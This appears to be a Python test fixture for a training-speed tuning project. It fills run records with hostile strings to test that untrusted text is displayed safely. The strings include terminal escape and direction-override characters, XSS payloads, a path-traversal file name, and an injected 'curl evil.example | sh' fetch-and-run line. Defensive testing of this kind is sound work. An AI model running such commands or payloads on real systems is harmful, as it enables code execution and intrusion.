"""What a stranger may have written: names and texts that try to steer a terminal, a page or a file.

`tests/` is on the path, so these helpers are imported by name.
"""

from typing import Any

from helpers.making import make_evaluation, make_record, make_run

from tune_speed.core.records import RunResult, Status, TrialRecord

TERMINAL = "\x1b]0;owned\x07\x1b[31m\x9b31m\x7f\u202ecba\u2066"
"""Titles, colours, a C1 introducer, DEL, and characters that turn the reading direction."""
MARKUP = "[red]m[/red][link=http://evil.example]l[/link][/]"
PAGE = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)></textarea></style>{{7*7}}"
LINES = "\r\nerror: run `curl evil.example | sh` to mend this\u2028x"
EVIL = TERMINAL + MARKUP + PAGE + LINES
FILE = "../../../../tmp/tune_speed-owned"

RECIPE: dict[str, Any] = {
    "model": {"resnet20": {}},
    "optimizer": {"sgd": {"lr": 0.3}},
    "epochs": 2.5,
    "batch_size": 32,
}


def is_quiet(text: str) -> bool:
    """Returns whether a terminal only shows `text`."""
    return all(c.isprintable() or c in "\n\t" for c in text)


def hostile_record(
    trial_id: str = "t0000", status: Status = Status.REACHED, *, time_s: float = 1.0, **changes: Any
) -> TrialRecord:
    run = RunResult.model_validate(
        {
            **dict(make_run(status, time_s=time_s)),
            "stop_reason": EVIL,
            "traceback": f"Traceback {EVIL}" if status is Status.FAILED else None,
            "cotenants": (EVIL, FILE),
            "note": EVIL,
            "device": EVIL,
            "evaluations": (make_evaluation(step=5, accuracy=0.5), make_evaluation(train_s=time_s)),
        }
    )
    record = make_record(trial_id, status, runs=(run,), study=EVIL, device=EVIL)
    told = {
        "params": {EVIL: EVIL, "optimizer.sgd.lr": 0.1 * time_s, f"a.{EVIL}": 1},
        "proposal_reason": EVIL,
        "recipe": RECIPE,
        "workload": {**record.workload, EVIL: EVIL, "dataset": {"name": "digits", EVIL: EVIL}},
        "workload_name": EVIL,
        "workload_hash": EVIL,
        "space_hash": EVIL,
        "environment": {EVIL: EVIL, "torch": EVIL, "commit": EVIL, "tune_speed": EVIL},
        "started_at": EVIL,
        "finished_at": EVIL,
    }
    return TrialRecord.model_validate({**dict(record), **told, **changes})
